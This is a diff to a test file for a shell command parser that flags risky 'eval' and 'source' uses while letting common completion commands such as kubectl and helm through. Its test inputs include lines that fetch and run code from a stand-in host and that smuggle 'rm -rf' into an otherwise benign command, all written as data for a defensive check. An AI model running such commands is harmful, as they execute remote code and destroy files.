@@ -209,6 +209,8 @@ describe('well-known initialisation', () => {
       'source .venv/bin/activate',
       '. ~/.nvm/nvm.sh',
       'source ~/.cargo/env',
+      'source <(kubectl completion zsh)',
+      '. <(helm completion bash)',
     ]) {
       expect(kinds(parse(cmd)), cmd).toEqual([]);
       expect(kinds(parseShell(cmd)), cmd).toEqual([]);
@@ -220,5 +222,8 @@ describe('well-known initialisation', () => {
     expect(kinds(parseShell('eval "$(curl -s https://x.test/init)"'))).toContain('eval');
     expect(kinds(parseShell('eval "$(pyenv init -; rm -rf x)"'))).toContain('eval');
     expect(kinds(parseShell('source ./evil/activate.sh'))).toContain('source');
+    expect(kinds(parseShell('source <(curl -s https://x.test/init)'))).toContain('source');
+    expect(kinds(parseShell('source <(kubectl completion zsh; rm -rf x)'))).toContain('source');
+    expect(kinds(parseShell('source <(kubectl completion zsh) extra'))).toContain('source');
   });
 });
